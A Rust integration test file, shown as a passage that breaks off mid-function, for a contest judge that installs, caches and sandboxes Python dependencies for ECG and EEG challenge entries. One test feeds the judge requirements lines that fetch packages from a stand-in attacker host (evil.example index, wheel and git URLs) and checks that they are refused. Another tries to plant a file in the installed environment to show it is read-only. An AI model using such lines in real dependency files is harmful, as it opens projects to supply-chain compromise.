//! Entries' own packages, end to end with the real package index (PyPI unless
//! `PHYSIOJUDGE_INDEX_URL` says otherwise): an entry in the official CPSC 2021 layout
//! (`LICENSE`, `peakutils` in its requirements) installs and imports it in quiz and
//! exam and cannot write into it; its second evaluation takes the cached environment
//! (timed); the PhysioNet 2022 layout (the team's own drivers and Dockerfile) with the
//! official pins is refused naming what has no wheel, and with a scikit-learn pin runs
//! that version while the runtime keeps its own; P300 `.pyc` entries run or are refused
//! by their Python version; hostile lines, a source-only package, a huge download and
//! the organiser's rules are refused; a sandbox run like the install's has no network.
//! Issue 31: lines read as meant (`json`, `sklearn`, `python-dev`, a Dockerfile) and a
//! missing `AUTHORS.txt` are warnings; the import check refuses an undeclared module and
//! a wheel built for NumPy 1.x with advice that, followed as written, scores; advice is
//! never a pre-release; the CPSC 2021 example's pins score after their advice.
//!
//! Needs root, the Python runtime (built once in `target/tmp/runtime`) and the index:
//! without it the tests skip, unless `PHYSIOJUDGE_REQUIRE_DATA=1` (CI), which makes them
//! fail. No libtest harness: this binary is also the sandbox's init program. Its tests
//! run in two lanes (threads), each with its own judge, sandbox slot and cache: sandbox
//! slots 60–63.

use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::sync::OnceLock;
use std::time::Instant;

use judge::pyenv::EnvSettings;
use judge::result::{EntryVerdict, Reason, Stage};
use judge::{Challenge, EvalResult, Judge, Request};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn runtime() -> runtime::Runtime {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("runtime");
    runtime::setup(&dir, Path::new(runtime::DEFAULT_PYTHON)).expect("the Python runtime")
}

/// One of the binary's two lanes: its tests run one after another on its own judge, in
/// its own sandbox slot, with its own fresh cache (the first evaluation of a set really
/// downloads and installs). Two lanes overlap one test's downloads with another's
/// installs; a cache per lane keeps a test's count of environments to what its lane made.
struct Lane {
    judge: Judge,
    cache: tempfile::TempDir,
}

/// The lanes' sandbox slots: 60 and 62 (61 is `a_run_like_the_install_has_no_network`'s,
/// 63 `bench_environments`'s).
const LANES: usize = 2;
static LANE_STATE: [OnceLock<Lane>; LANES] = [OnceLock::new(), OnceLock::new()];

thread_local! {
    /// The lane this thread runs (the main thread is lane 0).
    static LANE: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

fn lane() -> &'static Lane {
    let no = LANE.with(|l| l.get());
    LANE_STATE[no].get_or_init(|| {
        let cache = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let init = sandbox::reexec::this_program().unwrap();
        let slot = 60 + 2 * no as u32;
        let mut j = Judge::new(runtime(), init, slot..slot + 1).unwrap();
        let mut s = EnvSettings::from_env();
        s.cache = cache.path().to_path_buf();
        j.set_env_settings(s);
        for (id, extra) in [
            ("cpsc2021-deny", "deny = [\"PeakUtils\"]"),
            ("cpsc2021-runtime-only", "extra = false"),
            ("cpsc2021-1gib", "download_mb = 1024"),
        ] {
            let text = include_str!("../../../challenges/cpsc2021/challenge.toml")
                .replace("id = \"cpsc2021\"", &format!("id = \"{id}\""))
                + &format!("\n[packages]\n{extra}\n");
            j.add_challenge(Challenge::parse(&text, id).unwrap());
        }
        Lane { judge: j, cache }
    })
}

/// This lane's cache.
fn cache() -> &'static Path {
    lane().cache.path()
}

/// The environments in this lane's cache.
fn env_dirs() -> usize {
    std::fs::read_dir(cache().join("envs"))
        .unwrap()
        .flatten()
        .filter(|e| e.path().is_dir())
        .count()
}

fn judge() -> &'static Judge {
    &lane().judge
}

fn data(id: &str) -> PathBuf {
    static DIR: OnceLock<tempfile::TempDir> = OnceLock::new();
    let dir = DIR
        .get_or_init(|| tempfile::tempdir().unwrap())
        .path()
        .join(id);
    // Both lanes may ask for the same data at once: one writes it.
    static WRITING: std::sync::Mutex<()> = std::sync::Mutex::new(());
    let _one = WRITING.lock().unwrap_or_else(|e| e.into_inner());
    if !dir.exists() {
        synth::write_challenge(id, &dir, 2026, None).unwrap();
    }
    dir
}

/// Whether the index answers; when it does not, `PHYSIOJUDGE_REQUIRE_DATA=1` fails.
fn index_reachable() -> bool {
    let url = format!("{}/peakutils/", judge().env_settings().index_url);
    let ok = Command::new(judge().runtime().unwrap().dir().join("bin/python"))
        .args([
            "-I",
            "-c",
            "import sys, urllib.request; urllib.request.urlopen(sys.argv[1], timeout=30)",
            &url,
        ])
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        let msg = format!("the package index ({url}) cannot be reached");
        if std::env::var("PHYSIOJUDGE_REQUIRE_DATA").is_ok_and(|v| v == "1") {
            panic!("{msg}, and PHYSIOJUDGE_REQUIRE_DATA=1 says the tests must run");
        }
        eprintln!("{msg}: skipped");
    }
    ok
}

fn evaluate(challenge: &str, entry: &Path, out: &Path) -> EvalResult {
    let data = data(challenge.split('-').next().unwrap());
    judge()
        .evaluate(
            &Request {
                challenge,
                entry,
                data: &data,
                out,
                cancel: None,
            },
            &mut (),
        )
        .unwrap()
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn prep_problems(r: &EvalResult) -> Vec<String> {
    match r.failure() {
        Some((Stage::Prep, Reason::Requirements { problems })) => problems.clone(),
        other => panic!("expected prep to refuse the requirements, got {other:?}"),
    }
}

fn stage_time(r: &EvalResult, stage: Stage) -> f64 {
    r.stages
        .iter()
        .find(|s| s.stage == stage)
        .unwrap()
        .wall_time_s
}

/// An entry in the official CPSC 2021 layout: our example's code with `prelude` first,
/// `LICENSE` (not `LICENSE.txt`), and `requirements`.
fn cpsc_entry(dir: &Path, requirements: &str, prelude: &str) {
    let code = read(&repo().join("entries/cpsc2021/entry_2021.py"));
    write(&dir.join("entry_2021.py"), &format!("{prelude}\n{code}"));
    write(&dir.join("requirements.txt"), requirements);
    write(&dir.join("LICENSE"), "BSD 2-Clause License\n");
    write(&dir.join("AUTHORS.txt"), "A team\n");
}

const PEAKUTILS_PRELUDE: &str = r#"
import os, sys
from importlib import metadata
import peakutils
where = os.path.dirname(peakutils.__file__)
print("peakutils", metadata.version("PeakUtils"), "from", where, file=sys.stderr)
try:
    with open(os.path.join(where, "planted.py"), "w") as f:
        f.write("x = 1\n")
    print("the environment was writable", file=sys.stderr)
except OSError as e:
    print("the environment is read-only:", e.strerror, file=sys.stderr)
"#;

fn cpsc_layout_installs_peakutils_and_caches_it() {
    if !index_reachable() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let entry = tmp.path().join("entry");
    cpsc_entry(&entry, "numpy\nscipy\nwfdb\npeakutils\n", PEAKUTILS_PRELUDE);
    let out = tmp.path().join("first");
    let first = evaluate("cpsc2021", &entry, &out);
    let prep = read(&out.join("logs/prep.log"));
    assert_eq!(first.verdict, EntryVerdict::Scored, "{first:?}\n{prep}");
    assert!(prep.contains("LICENSE is taken for it"), "{prep}");
    assert!(prep.contains("downloaded 1 wheel(s)"), "{prep}");
    let env = first.environment.clone().expect("an environment");
    assert!(!env.cached);
    assert_eq!(env.packages.len(), 1, "{env:?}");
    assert_eq!(env.packages[0].name, "PeakUtils");
    assert_eq!(env.packages[0].sha256.len(), 64);
    let quiz = read(&out.join("logs/quiz.log"));
    let exam = read(&out.join("private/exam.log"));
    for log in [&quiz, &exam] {
        assert!(log.contains("from /env/peakutils"), "{log}");
        assert!(log.contains("the environment is read-only"), "{log}");
        assert!(!log.contains("was writable"), "{log}");
    }
    let json = read(&out.join("result.json"));
    assert!(json.contains("\"environment\"") && json.contains(&env.packages[0].sha256));

    // The same requirements again, in another entry: nothing downloaded or installed.
    // The cache is shared with this binary's other tests, so count what this run adds.
    let envs_before = env_dirs();
    let other = tmp.path().join("other");
    cpsc_entry(
        &other,
        "peakutils\n# the same set\nnumpy\n",
        PEAKUTILS_PRELUDE,
    );
    let out2 = tmp.path().join("second");
    let second = evaluate("cpsc2021", &other, &out2);
    let prep2 = read(&out2.join("logs/prep.log"));
    assert_eq!(second.verdict, EntryVerdict::Scored, "{prep2}");
    let env2 = second.environment.clone().unwrap();
    assert!(env2.cached && env2.key == env.key, "{env2:?}");
    assert!(prep2.contains("found in the cache"), "{prep2}");
    assert!(!prep2.contains("downloaded 1"), "{prep2}");
    assert_eq!(env_dirs(), envs_before, "one environment shared");
    println!(
        "  prep with peakutils: first {:.2} s (download + install), cached {:.2} s",
        stage_time(&first, Stage::Prep),
        stage_time(&second, Stage::Prep)
    );
}

/// The official PhysioNet 2022 example's layout: the team's own drivers and Dockerfile
/// beside `team_code.py`.
fn physionet_entry(dir: &Path, requirements: &str) {
    let code = read(&repo().join("entries/physionet2022/team_code.py"));
    let prelude = "import sys\nimport sklearn\nprint('sklearn', sklearn.__version__, \
                   sklearn.__file__, file=sys.stderr)\n";
    write(&dir.join("team_code.py"), &format!("{prelude}{code}"));
    for f in ["helper_code.py", "train_model.py", "run_model.py"] {
        write(
            &dir.join(f),
            "raise SystemExit(\"the team's copy must not run\")\n",
        );
    }
    write(&dir.join("Dockerfile"), "FROM python:3.8.6-buster\n");
    write(&dir.join("requirements.txt"), requirements);
    write(&dir.join("LICENSE"), "BSD\n");
}

fn physionet_layout_pins_are_checked_and_installed() {
    if !index_reachable() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    // The official example's pins: numpy 1.22.0 and friends have no CPython 3.11 wheel.
    let entry = tmp.path().join("official");
    physionet_entry(
        &entry,
        "joblib==1.1.0\nnumpy==1.22.0\nscipy==1.8.0\nscikit-learn==1.0.2\n",
    );
    // Where the bullseye runtime is set up these pins would choose it and install
    // (crates/physiojudge/tests/cli_runtimes.rs); this test is about the advice on
    // CPython 3.11, so the entry asks for that runtime.
    write(&entry.join("runtime.txt"), "python-3.11\n");
    let r = evaluate("physionet2022", &entry, &tmp.path().join("official-out"));
    let p = prep_problems(&r);
    let numpy = p.iter().find(|m| m.starts_with("numpy 1.22.0")).unwrap();
    for part in [
        "no wheel for CPython 3.11 on x86_64 Linux",
        "its wheels are for CPython 3.8, 3.9, 3.10",
        "1.23.2 is the oldest release that has one",
        "numpy 2.4.6 is in the runtime",
        "write numpy>=1.23.2,<1.24",
        "vendor the module's .py files",
    ] {
        assert!(numpy.contains(part), "{part:?} not in {numpy}");
    }
    assert!(
        p.iter().any(|m| m.starts_with("scikit-learn 1.0.2")),
        "{p:?}"
    );
    assert!(p.iter().any(|m| m.starts_with("scipy 1.8.0")), "{p:?}");
    println!("  the official pins: {numpy}");

    // Updated only where no wheel exists: scikit-learn pinned to 1.5.2.
    let entry = tmp.path().join("updated");
    physionet_entry(
        &entry,
        "joblib==1.6.0\nnumpy>=1.23.2\nscipy>=1.9\nscikit-learn==1.5.2\n",
    );
    let out = tmp.path().join("updated-out");
    let r = evaluate("physionet2022", &entry, &out);
    let prep = read(&out.join("logs/prep.log"));
    assert_eq!(r.verdict, EntryVerdict::Scored, "{r:?}\n{prep}");
    for f in [
        "helper_code.py",
        "train_model.py",
        "run_model.py",
        "Dockerfile",
    ] {
        assert!(
            prep.contains(&format!("the entry's {f} is replaced by the judge's")),
            "{f}: {prep}"
        );
    }
    let env = r.environment.unwrap();
    assert_eq!(
        env.packages
            .iter()
            .map(|p| format!("{} {}", p.name, p.version))
            .collect::<Vec<_>>(),
        ["scikit-learn 1.5.2"]
    );
    for log in ["logs/train.log", "logs/quiz.log", "private/exam.log"] {
        let text = read(&out.join(log));
        assert!(text.contains("sklearn 1.5.2 /env/sklearn"), "{log}: {text}");
    }
    let kept = Command::new(judge().runtime().unwrap().dir().join("bin/python"))
        .args(["-I", "-c", "import sklearn; print(sklearn.__version__)"])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&kept.stdout).trim(),
        runtime::Lock::embedded()
            .version_of("scikit-learn")
            .unwrap(),
        "the runtime keeps its own scikit-learn"
    );
}

fn refusals_name_the_line_and_the_reason() {
    let tmp = tempfile::tempdir().unwrap();
    let run = |name: &str, challenge: &str, requirements: &str| {
        let entry = tmp.path().join(name);
        cpsc_entry(&entry, requirements, "");
        evaluate(challenge, &entry, &tmp.path().join(format!("{name}-out")))
    };
    // Refused before anything is looked up.
    let r = run(
        "hostile",
        "cpsc2021",
        "numpy\n--index-url https://evil.example/simple\npkg @ https://evil.example/p.whl\n\
         -e git+https://evil.example/x.git#egg=x\n./vendor/x\n--trusted-host evil.example\n",
    );
    let p = prep_problems(&r);
    assert_eq!(p.len(), 5, "{p:?}");
    for (i, line) in (2..=6).enumerate() {
        assert!(
            p[i].starts_with(&format!("requirements.txt: line {line}: ")),
            "{p:?}"
        );
    }
    if !index_reachable() {
        return;
    }
    let r = run("sdist", "cpsc2021", "wget==3.2\n");
    let p = prep_problems(&r);
    assert!(
        p[0].contains("wget has no wheel") && p[0].contains("only source distributions"),
        "{p:?}"
    );
    let t = Instant::now();
    let r = run("huge", "cpsc2021-1gib", "numpy\ntorch\n");
    let p = prep_problems(&r);
    assert!(
        p[0].contains("download limit of 1024 MiB") && p[0].contains("; torch "),
        "{p:?}"
    );
    assert!(p[0].contains("MiB of it (with its dependencies)"), "{p:?}");
    assert!(p[1].starts_with("the largest wheels: "), "{p:?}");
    println!(
        "  torch refused in {:.1} s: {}",
        t.elapsed().as_secs_f64(),
        &p[0][..p[0].len().min(300)]
    );
    assert!(
        !std::fs::read_dir(cache().join("wheels"))
            .into_iter()
            .flatten()
            .flatten()
            .any(|e| e.file_name().len() == 64
                && std::fs::read_dir(e.path())
                    .unwrap()
                    .flatten()
                    .any(|w| w.file_name().to_string_lossy().starts_with("torch"))),
        "nothing of torch was downloaded"
    );
    let r = run("denied", "cpsc2021-deny", "peakutils\n");
    let p = prep_problems(&r);
    assert!(p[0].contains("deny list"), "{p:?}");
    let r = run("runtime-only", "cpsc2021-runtime-only", "peakutils\n");
    let p = prep_problems(&r);
    assert!(p[0].contains("allows only the runtime's packages"), "{p:?}");
    // What the runtime meets needs no environment at all.
    let r = run("met", "cpsc2021-runtime-only", "numpy>=2\nscipy\n");
    assert_eq!(r.verdict, EntryVerdict::Scored);
    assert!(r.environment.is_none());
}

/// The P300 contest's rule: `AlgorithmImplement` may be shipped compiled.
fn p300_compiled_entries_run_on_their_python_only() {
    let tmp = tempfile::tempdir().unwrap();
    let entry = tmp.path().join("compiled");
    let src = repo().join("entries/p300speller");
    let status = Command::new("cp")
        .arg("-r")
        .arg(&src)
        .arg(&entry)
        .status()
        .unwrap();
    assert!(status.success());
    let folder = entry.join("AlgorithmImplement");
    let compile = Command::new(runtime::DEFAULT_PYTHON)
        .args([
            "-c",
            "import pathlib, py_compile, sys\n\
             for f in pathlib.Path(sys.argv[1]).glob('*.py'):\n    \
             py_compile.compile(str(f), cfile=str(f) + 'c', doraise=True)\n    f.unlink()\n",
        ])
        .arg(&folder)
        .status()
        .unwrap();
    assert!(compile.success());
    assert!(!folder.join("AlgorithmImplement.py").exists());
    let r = evaluate("p300speller", &entry, &tmp.path().join("compiled-out"));
    assert_eq!(r.verdict, EntryVerdict::Scored, "{r:?}");

    // The same files marked as Python 3.8's.
    let pyc = folder.join("speller.pyc");
    let mut bytes = std::fs::read(&pyc).unwrap();
    bytes[..2].copy_from_slice(&3413u16.to_le_bytes());
    std::fs::write(&pyc, bytes).unwrap();
    let r = evaluate("p300speller", &entry, &tmp.path().join("old-out"));
    let p = prep_problems(&r);
    assert_eq!(p.len(), 1, "{p:?}");
    assert!(
        p[0].contains("AlgorithmImplement/speller.pyc")
            && p[0].contains("Python 3.8")
            && p[0].contains("Python 3.11"),
        "{p:?}"
    );
}

/// A release runtime, set up on this machine (scripts/test.sh builds them in
/// `$PHYSIOJUDGE_RUNTIMES_DIR`); `None` skips, unless `PHYSIOJUDGE_REQUIRE_DATA=1`.
fn release_runtime(release: runtime::Release) -> Option<runtime::Runtime> {
    match runtime::Runtime::find(release) {
        Ok(rt) => Some(rt),
        Err(e) if std::env::var("PHYSIOJUDGE_REQUIRE_DATA").is_ok_and(|v| v == "1") => {
            panic!("{e}, and PHYSIOJUDGE_REQUIRE_DATA=1 says the tests must run")
        }
        Err(e) => {
            eprintln!("{e}: skipped");
            None
        }
    }
}

/// Our 2017 example entry, copied to `dir`.
fn cinc2017_entry(dir: &Path) {
    let status = Command::new("cp")
        .arg("-r")
        .arg(repo().join("entries/cinc2017"))
        .arg(dir)
        .status()
        .unwrap();
    assert!(status.success());
}

/// 2017's `dependencies.txt`: a known module's package becomes its pip package, any
/// other is installed from the runtime's Debian release. `jq` (a program and the
/// library it loads, `libjq1`, and that library's `libonig5`) is installed on bullseye
/// and used by `setup.sh` and every record's run, and the entry scores; the second
/// evaluation finds the system in the cache. A name bullseye lacks is refused naming
/// the release and the closest names, with its line.
fn dependencies_txt_installs_debian_packages() {
    if release_runtime(runtime::Release::Bullseye).is_none() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let entry = tmp.path().join("deps");
    cinc2017_entry(&entry);
    write(&entry.join("runtime.txt"), "bullseye\n");
    write(
        &entry.join("dependencies.txt"),
        "python3\npython3-numpy = 1:1.12.1-3\njq\nbash\n",
    );
    write(
        &entry.join("setup.sh"),
        "set -e\njq --version >&2\npython3 -c 'import numpy'\n",
    );
    // The label goes through jq: a record's run fails unless jq and its libraries load.
    let next = read(&entry.join("next.sh")).replace(
        "echo \"$RECORD,$LABEL\" >> answers.txt",
        "jq -rn --arg r \"$RECORD\" --arg l \"$LABEL\" '\"\\($r),\\($l)\"' >> answers.txt",
    );
    assert!(next.contains("jq -rn"), "{next}");
    write(&entry.join("next.sh"), &next);
    let out = tmp.path().join("deps-out");
    let r = evaluate("cinc2017", &entry, &out);
    let prep = read(&out.join("logs/prep.log"));
    assert_eq!(r.verdict, EntryVerdict::Scored, "{r:?}\n{prep}");
    assert_eq!(r.runtime.as_ref().unwrap().name, "bullseye", "{r:?}");
    let env = r.environment.as_ref().expect("an environment");
    let names: Vec<&str> = env.debian.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(names, ["jq", "libjq1", "libonig5"], "{prep}");
    assert!(!env.cached, "{r:?}");
    assert!(
        prep.contains("python3-numpy is read as the pip package numpy"),
        "{prep}"
    );
    assert!(
        prep.contains("dependencies.txt: already in the bullseye runtime: bash"),
        "{prep}"
    );
    assert!(prep.contains("no maintainer script ran"), "{prep}");
    assert!(prep.contains("jq-1.6"), "setup.sh's jq --version: {prep}");
    // The runtime's own root is untouched: jq is only in the entry's system.
    assert!(
        !release_runtime(runtime::Release::Bullseye)
            .unwrap()
            .dir()
            .join("rootfs/usr/bin/jq")
            .exists()
    );

    let again = evaluate("cinc2017", &entry, &tmp.path().join("deps-again"));
    assert_eq!(again.verdict, EntryVerdict::Scored, "{again:?}");
    assert!(again.environment.as_ref().unwrap().cached, "{again:?}");

    write(
        &entry.join("dependencies.txt"),
        "python3\njq\noctave-signall\nlibprotobuf10\n",
    );
    let out = tmp.path().join("unknown-out");
    let r = evaluate("cinc2017", &entry, &out);
    let p = prep_problems(&r);
    assert_eq!(p.len(), 2, "{p:?}");
    assert!(
        p[0].starts_with(
            "dependencies.txt: line 3: octave-signall is not a package of Debian 11 \
             (bullseye), the release of this entry's runtime; the closest names there: \
             octave-signal"
        ),
        "{p:?}"
    );
    assert!(
        p[1].starts_with("dependencies.txt: line 4: libprotobuf10 is not a package of Debian 11")
            && p[1].contains("libprotobuf23"),
        "{p:?}"
    );
}

/// Every era runtime runs an entry: our 2017 example, its `runtime.txt` naming the
/// release, scores on it, and the interpreter its `setup.sh` runs is the release's own
/// CPython (3.9.2, 3.11.2, 3.13.5), as `result.json` says. A CPSC entry on bullseye has
/// its requirement lines read with CPython 3.9's standard library.
fn every_release_runs_an_entry() {
    for (release, python, full) in [
        (runtime::Release::Bullseye, "3.9", "Python 3.9.2"),
        (runtime::Release::Bookworm, "3.11", "Python 3.11.2"),
        (runtime::Release::Trixie, "3.13", "Python 3.13.5"),
    ] {
        if release_runtime(release).is_none() {
            continue;
        }
        let tmp = tempfile::tempdir().unwrap();
        let entry = tmp.path().join("entry");
        cinc2017_entry(&entry);
        write(&entry.join("runtime.txt"), &format!("{}\n", release.name()));
        write(
            &entry.join("setup.sh"),
            "set -e\npython3 --version >&2\npython3 -c 'import numpy'\n",
        );
        let out = tmp.path().join("out");
        let r = evaluate("cinc2017", &entry, &out);
        let prep = read(&out.join("logs/prep.log"));
        assert_eq!(r.verdict, EntryVerdict::Scored, "{release}: {r:?}\n{prep}");
        let choice = r.runtime.as_ref().unwrap();
        assert_eq!(
            (choice.name.as_str(), choice.python.as_str()),
            (release.name(), python),
            "{r:?}"
        );
        assert!(prep.contains(full), "{release}: {prep}");
    }
    // Requirement lines are read with the chosen runtime's standard library: on
    // bullseye, asynchat (gone from CPython 3.12) is still one of its modules.
    if release_runtime(runtime::Release::Bullseye).is_none() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let entry = tmp.path().join("cpsc");
    cpsc_entry(&entry, "json\nasynchat\nsklearn\n", "");
    write(&entry.join("runtime.txt"), "bullseye\n");
    let out = tmp.path().join("cpsc-out");
    let r = evaluate("cpsc2021", &entry, &out);
    let prep = read(&out.join("logs/prep.log"));
    assert_eq!(r.verdict, EntryVerdict::Scored, "{r:?}\n{prep}");
    assert_eq!(
        r.warnings,
        [
            "requirements.txt: line 1: json is part of Python's standard library (CPython \
             3.9): ignored",
            "requirements.txt: line 2: asynchat is part of Python's standard library (CPython \
             3.9): ignored",
            "requirements.txt: line 3: sklearn is read as scikit-learn (sklearn is \
             scikit-learn's import name)",
        ]
    );
}

/// Lines read as people meant them: a standard-library module, an import name and a
/// system package in `requirements.txt`, and `python-dev` / a known module's `-lib`
/// package in `dependencies.txt`, each a warning with its file and line; a missing
/// `AUTHORS.txt` is a warning too. The entry scores.
fn lines_are_read_as_meant_and_authors_is_optional() {
    let tmp = tempfile::tempdir().unwrap();
    let entry = tmp.path().join("meant");
    cpsc_entry(
        &entry,
        "numpy\njson\nsklearn\npython-dev\n",
        "import sklearn.preprocessing\n",
    );
    std::fs::remove_file(entry.join("AUTHORS.txt")).unwrap();
    write(
        &entry.join("Dockerfile"),
        "FROM python:3.8.6-buster\nCOPY ./ /challenge\nRUN pip install --upgrade pip && pip install numpy\n",
    );
    let out = tmp.path().join("meant-out");
    let r = evaluate("cpsc2021", &entry, &out);
    let prep = read(&out.join("logs/prep.log"));
    assert_eq!(r.verdict, EntryVerdict::Scored, "{r:?}\n{prep}");
    assert_eq!(
        r.warnings,
        [
            "AUTHORS.txt is missing or empty: the challenge's rules ask for it (not required \
             by this judge)",
            "requirements.txt: line 2: json is part of Python's standard library (CPython \
             3.11): ignored",
            "requirements.txt: line 3: sklearn is read as scikit-learn (sklearn is \
             scikit-learn's import name)",
            "requirements.txt: line 4: python-dev is a system package, not a Python package: \
             ignored (the judge installs wheels, so no compiler or headers are needed)",
            "Dockerfile: line(s) 2 (COPY) ignored: the judge runs the entry its own way, and \
             takes only the packages of pip install commands",
        ]
    );
    assert!(
        prep.contains("Dockerfile: line 3: numpy is in the requirements file already"),
        "{prep}"
    );
    // The runtime meets what is left: no environment of the entry's own.
    assert!(r.environment.is_none());
    assert!(prep.contains("import check: "), "{prep}");
    assert!(read(&out.join("result.json")).contains("\"warnings\""));

    let entry = tmp.path().join("deps");
    let status = Command::new("cp")
        .arg("-r")
        .arg(repo().join("entries/cinc2017"))
        .arg(&entry)
        .status()
        .unwrap();
    assert!(status.success());
    write(
        &entry.join("dependencies.txt"),
        "python3\npython-dev\npython3-sklearn-lib\n",
    );
    let out = tmp.path().join("deps-out");
    let r = evaluate("cinc2017", &entry, &out);
    let prep = read(&out.join("logs/prep.log"));
    assert_eq!(r.verdict, EntryVerdict::Scored, "{r:?}\n{prep}");
    assert!(
        r.warnings.iter().any(|w| w
            == "dependencies.txt: line 2: python-dev is not needed here (the judge installs \
                wheels and the runtime has its Python): ignored"),
        "{:?}",
        r.warnings
    );
    assert!(
        prep.contains("line 3: python3-sklearn-lib is read as the pip package scikit-learn"),
        "{prep}"
    );
}

/// The import check: a module imported but not declared, and a package that installs
/// but cannot import (scikit-learn 1.1.3 is built for NumPy 1.x, the runtime has NumPy
/// 2), each refused with advice pip resolved; the advice, followed as written, scores.
fn imports_are_checked_with_advice_that_resolves() {
    if !index_reachable() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let entry = tmp.path().join("undeclared");
    cpsc_entry(&entry, "numpy\n", "import tqdm\n");
    let out = tmp.path().join("undeclared-out");
    let r = evaluate("cpsc2021", &entry, &out);
    let p = prep_problems(&r);
    assert_eq!(
        p[0],
        "tqdm is imported by entry_2021.py:1 but not in requirements.txt (nor in the \
         runtime): add tqdm to requirements.txt"
    );
    assert!(
        p[1].starts_with(
            "requirements.txt with tqdm added, checked (pip resolves it, installing tqdm "
        ),
        "{p:?}"
    );

    let entry = tmp.path().join("abi");
    cpsc_entry(
        &entry,
        "scikit-learn==1.1.3\n",
        "import sklearn.preprocessing\n",
    );
    let out = tmp.path().join("abi-out");
    let r = evaluate("cpsc2021", &entry, &out);
    let p = prep_problems(&r);
    let prep = read(&out.join("logs/prep.log"));
    assert!(
        p[0].starts_with("scikit-learn 1.1.3 (imported by entry_2021.py:1) was built for numpy<2")
            && p[0].ends_with("add numpy<2 to requirements.txt"),
        "{p:?}\n{prep}"
    );
    let advice = p
        .iter()
        .find(|m| m.starts_with("requirements.txt with numpy<2 added, checked"))
        .unwrap_or_else(|| panic!("{p:?}"));
    // Followed literally: the lines after the first are the file.
    let lines: String = advice.lines().skip(1).map(|l| format!("{l}\n")).collect();
    assert_eq!(lines, "scikit-learn==1.1.3\nnumpy<2\n");
    let entry = tmp.path().join("abi-advised");
    cpsc_entry(&entry, &lines, "import sklearn.preprocessing\n");
    let out = tmp.path().join("abi-advised-out");
    let r = evaluate("cpsc2021", &entry, &out);
    let prep = read(&out.join("logs/prep.log"));
    assert_eq!(r.verdict, EntryVerdict::Scored, "{r:?}\n{prep}");
}

/// Advice for pins without a wheel: never a pre-release, the nearest release series
/// that has a wheel, checked by pip as a whole before it is printed.
fn advice_is_never_a_prerelease() {
    if !index_reachable() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let entry = tmp.path().join("tf");
    cpsc_entry(&entry, "tensorflow==2.4.0\n", "");
    let r = evaluate("cpsc2021", &entry, &tmp.path().join("tf-out"));
    let p = prep_problems(&r);
    assert!(
        p[0].starts_with("tensorflow 2.4.0 has no wheel for CPython 3.11")
            && p[0].contains("write tensorflow>=2.12.0,<2.13"),
        "{p:?}"
    );
    assert!(!p.iter().any(|m| m.contains("rc")), "{p:?}");
    assert!(
        p[1].starts_with("the requirements as the judge advises them, checked (pip resolves them for CPython 3.11, installing ")
            && p[1].ends_with("\ntensorflow>=2.12.0,<2.13"),
        "{p:?}"
    );
}

/// An entry with the official CPSC 2021 example's requirements and imports (numpy
/// 1.16.2, scipy 1.2.1, wfdb 2.2.1, matplotlib 3.0.3, pandas 0.24.2, peakutils 1.3.3,
/// scikit_learn 0.24.1: no reachable Python has wheels for all of them) scores after the
/// judge's advice is followed once, literally.
fn cpsc_official_pins_score_after_the_advice() {
    if !index_reachable() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let pins = "numpy==1.16.2\nscipy==1.2.1\nwfdb==2.2.1\nmatplotlib==3.0.3\npandas==0.24.2\n\
                peakutils==1.3.3\nscikit_learn==0.24.1\n";
    let prelude = "import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\n\
                   import pandas as pd\nimport peakutils\nfrom sklearn import preprocessing\n\
                   from scipy import signal\nimport numpy as np\n\
                   peakutils.indexes(np.array([0.0, 1.0, 0.0, 2.0, 0.0]))\n\
                   preprocessing.scale(np.arange(4.0))\n";
    let entry = tmp.path().join("official");
    cpsc_entry(&entry, pins, prelude);
    let out = tmp.path().join("official-out");
    let r = evaluate("cpsc2021", &entry, &out);
    let p = prep_problems(&r);
    let advice = p
        .iter()
        .find(|m| m.starts_with("the requirements as the judge advises them, checked"))
        .unwrap_or_else(|| panic!("{p:?}"));
    println!("  advice: {advice}");
    let lines: String = advice.lines().skip(1).map(|l| format!("{l}\n")).collect();
    let entry = tmp.path().join("advised");
    cpsc_entry(&entry, &lines, prelude);
    let out = tmp.path().join("advised-out");
    let r = evaluate("cpsc2021", &entry, &out);
    let prep = read(&out.join("logs/prep.log"));
    let quiz = std::fs::read_to_string(out.join("logs/quiz.log")).unwrap_or_default();
    assert_eq!(r.verdict, EntryVerdict::Scored, "{r:?}\n{prep}\n{quiz}");
}

/// The install is a sandbox run: the runtime, the wheels, an output folder, and the
/// run's own empty network namespace. A program in such a run cannot reach the index
/// nor a server the host listens on.
fn a_run_like_the_install_has_no_network() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let tmp = tempfile::tempdir().unwrap();
    let mut cfg = sandbox::RunConfig::new(
        vec![
            "/runtime/bin/python".into(),
            "-I".into(),
            "-c".into(),
            format!(
                "import socket, urllib.request\n\
                 for what in [lambda: urllib.request.urlopen('https://pypi.org/simple/', timeout=5),\n\
                 \x20            lambda: socket.create_connection(('127.0.0.1', {port}), timeout=5)]:\n\
                 \x20   try:\n        what()\n        print('CONNECTED')\n\
                 \x20   except Exception as e:\n        print('refused:', type(e).__name__, e)\n"
            ),
        ],
        sandbox::reexec::this_program().unwrap(),
    );
    cfg.binds = judge().runtime().unwrap().binds();
    cfg.binds.push(sandbox::Bind {
        src: tmp.path().to_path_buf(),
        dst: PathBuf::from("/out"),
        writable: true,
    });
